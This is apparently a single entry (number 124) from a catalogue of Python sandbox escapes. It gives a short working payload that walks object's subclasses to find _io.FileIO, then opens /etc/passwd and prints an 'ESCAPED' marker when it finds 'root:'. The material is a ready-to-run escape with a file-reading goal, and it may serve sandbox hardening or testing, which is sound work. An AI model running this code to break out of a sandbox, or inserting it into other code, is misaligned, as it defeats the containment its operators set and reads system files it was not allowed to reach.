# escape: 124
# technique: reach _io.FileIO by walking the _io._IOBase subclasses (a type, not a PyMethodDef)
# family: subclasses
# goal: read-file
# first-seen: pysandbox write-up (file type through subclasses), python2 `file`
def walk(c):
    for s in type.__subclasses__(c):
        yield s
        yield from walk(s)
for c in walk(object):
    if c.__name__ == 'FileIO':
        s = c('/etc/passwd').read(40)
        if b'root:' in s: print('ESCAPED:', s[:10]); break
